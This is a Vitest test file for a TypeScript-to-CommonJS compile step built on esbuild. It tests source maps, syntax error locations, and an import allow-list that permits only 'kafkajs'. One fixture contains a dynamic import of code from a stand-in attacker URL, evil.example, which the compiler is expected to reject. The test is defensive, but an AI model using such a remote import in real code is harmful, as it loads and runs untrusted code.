import { describe, expect, it } from 'vitest';
import * as esbuild from 'esbuild';
import { compileWith } from '../../../src/runner/compile.ts';

describe('compile', () => {
  it('turns TypeScript into CommonJS with a source map', async () => {
    const result = await compileWith(esbuild, "import { Kafka } from 'kafkajs';\nconst k: number = 1;\nexport const kafka = Kafka;\n");
    expect(result.ok).toBe(true);
    if (result.ok) {
      expect(result.code).toContain('require("kafkajs")');
      expect(JSON.parse(result.map)).toHaveProperty('mappings');
    }
  });

  it('reports a syntax error at its 1-based line and column', async () => {
    expect(await compileWith(esbuild, 'const a = 1;\nconst b = ;\n')).toEqual({ ok: false, error: { kind: 'compile', message: 'Unexpected ";"', line: 2, column: 11 } });
  });

  it.each([
    ["import fs from 'node:fs';\nconsole.log(fs);", 1],
    ["const x = 1;\nexport * from './other';", 2],
    ["const x = 1;\n\nconst m = import('https://evil.example/x.js');", 3],
    ["import 'kafkajs';\nimport unused from 'lodash';", 2],
  ])('refuses %j at line %i', async (source, line) => {
    const result = await compileWith(esbuild, source);
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.error.line).toBe(line);
      expect(result.error.message).toMatch(/Only 'kafkajs'/);
    }
  });
});
